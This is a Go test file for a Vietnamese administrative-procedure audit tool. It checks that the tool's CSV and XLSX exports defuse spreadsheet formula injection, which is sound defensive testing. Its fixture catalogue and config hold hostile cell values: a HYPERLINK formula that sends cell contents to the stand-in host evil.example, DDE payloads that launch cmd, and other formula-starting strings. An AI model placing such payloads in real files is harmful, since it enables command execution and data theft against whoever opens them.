package main

import (
	"bytes"
	"encoding/csv"
	"io"
	"net/http"
	"net/http/cookiejar"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/tthcaudit/tthcaudit/internal/cli"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"github.com/xuri/excelize/v2"

	"github.com/tthcaudit/tthcaudit/internal/cellsafe"
)

// hostileCatalog names the procedures the fixture portal does not publish
// (they become missing, then tickets) with formulas of every kind.
const hostileCatalog = `Mã TTHC,Tên thủ tục,Lĩnh vực,Cấp thực hiện,Trạng thái
1.010801,Cấp giấy xác nhận thân nhân của người có công,Người có công,Cấp Xã,Còn hiệu lực
1.010802,Giải quyết chế độ mai táng phí đối với cựu chiến binh,Người có công,Cấp Xã,Còn hiệu lực
1.010803,"=HYPERLINK(""http://evil.example/?x=""&A1;""bấm"")",-Người có công,Cấp Xã,Còn hiệu lực
1.010804,"-2+3+cmd|' /C calc'!A0",@Người có công,Cấp Xã,Còn hiệu lực
1.010805,"Thăm viếng; =1+1",＋Người có công,Cấp Xã,Còn hiệu lực
1.010806,"	@SUM(A1:A9)",Người có công,Cấp Xã,Còn hiệu lực
1.010899,"+Cấp giấy chứng nhận cũ",Người có công,Cấp Xã,Đã bãi bỏ
`

// assertNoFormulaCSV fails on a CSV cell a spreadsheet would run.
func assertNoFormulaCSV(t *testing.T, what string, b []byte) int {
	t.Helper()
	r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(b, []byte("\ufeff"))))
	r.FieldsPerRecord = -1
	rows, err := r.ReadAll()
	require.NoError(t, err, what)
	require.Greater(t, len(rows), 1, "%s has rows", what)
	n := 0
	for _, row := range rows {
		for _, c := range row {
			n++
			assert.False(t, cellsafe.Risky(c), "%s: cell %q starts a formula", what, c)
		}
	}
	return n
}

// assertNoFormulaXLSX fails on an XLSX text cell a spreadsheet would run
// once edited, and on any formula cell.
func assertNoFormulaXLSX(t *testing.T, what string, b []byte) {
	t.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(b))
	require.NoError(t, err, what)
	defer f.Close()
	for _, sh := range f.GetSheetList() {
		rows, err := f.GetRows(sh, excelize.Options{RawCellValue: true})
		require.NoError(t, err)
		for i, row := range rows {
			for j, c := range row {
				assert.False(t, cellsafe.Risky(c), "%s: sheet %s cell %q starts a formula", what, sh, c)
				name, _ := excelize.CoordinatesToCellName(j+1, i+1)
				fm, err := f.GetCellFormula(sh, name)
				require.NoError(t, err)
				assert.Empty(t, fm, "%s: %s!%s is a formula", what, sh, name)
			}
		}
	}
}

// TestNoExportStartsAFormula audits a portal whose catalogue and name
// carry formulas, and checks every CSV and XLSX the tool writes: the
// audit's missing.csv and report.xlsx, `tickets --csv`, the dashboard's
// tickets CSV and XLSX and the audit's downloads, and `catalog export`.
func TestNoExportStartsAFormula(t *testing.T) {
	portal := newChangingPortal(t, publishing(nil, "1.010801", "1.010802"))
	cfg := writeFixtureConfig(t, portal.srv.URL, "")
	dir := filepath.Dir(cfg)
	require.NoError(t, os.WriteFile(filepath.Join(dir, "catalog.csv"), []byte(hostileCatalog), 0o644))
	y, err := os.ReadFile(cfg)
	require.NoError(t, err)
	y = bytes.Replace(y, []byte("name: UBND xã Thử Nghiệm"), []byte(`name: "=cmd|' /C calc'!A0 UBND xã"`), 1)
	require.NoError(t, os.WriteFile(cfg, y, 0o644))

	out := filepath.Join(dir, "out")
	code, _, stderr := runCLI(t, "audit", "--config", cfg, "--out", out)
	require.Equal(t, cli.ExitOK, code, stderr)
	b, err := os.ReadFile(filepath.Join(out, "missing.csv"))
	require.NoError(t, err)
	assert.Contains(t, string(b), "'=HYPERLINK", "the hostile name is kept, defused")
	assert.Greater(t, assertNoFormulaCSV(t, "missing.csv", b), 10)
	b, err = os.ReadFile(filepath.Join(out, "report.xlsx"))
	require.NoError(t, err)
	assertNoFormulaXLSX(t, "report.xlsx", b)

	code, stdout, stderr := runCLI(t, "tickets", "--config", cfg, "--csv")
	require.Equal(t, cli.ExitOK, code, stderr)
	assert.Contains(t, stdout, "'-2+3")
	assertNoFormulaCSV(t, "tickets --csv", []byte(stdout))

	for _, ext := range []string{"csv", "xlsx"} {
		p := filepath.Join(dir, "catalog-export."+ext)
		code, _, stderr = runCLI(t, "catalog", "export", filepath.Join(dir, "catalog.csv"), "--out", p)
		require.Equal(t, cli.ExitOK, code, stderr)
		b, err := os.ReadFile(p)
		require.NoError(t, err)
		if ext == "csv" {
			assertNoFormulaCSV(t, "catalog export csv", b)
		} else {
			assertNoFormulaXLSX(t, "catalog export xlsx", b)
		}
	}

	base, _ := startServe(t, cli.ServeArgs{ConfigArgs: cli.ConfigArgs{Config: cfg}})
	jar, _ := cookiejar.New(nil)
	c := &http.Client{Jar: jar, Timeout: 10 * time.Second}
	get := func(p string) []byte {
		resp, err := c.Get(base + p)
		require.NoError(t, err)
		defer resp.Body.Close()
		require.Equal(t, http.StatusOK, resp.StatusCode, p)
		b, err := io.ReadAll(resp.Body)
		require.NoError(t, err)
		return b
	}
	assertNoFormulaCSV(t, "/tickets.csv", get("/tickets.csv"))
	assertNoFormulaXLSX(t, "/tickets.xlsx", get("/tickets.xlsx"))
	assertNoFormulaCSV(t, "/audits/1/missing.csv", get("/audits/1/missing.csv"))
	assertNoFormulaXLSX(t, "/audits/1/report.xlsx", get("/audits/1/report.xlsx"))
	assert.True(t, strings.Contains(string(get("/tickets.csv")), "'@Người có công"))
}
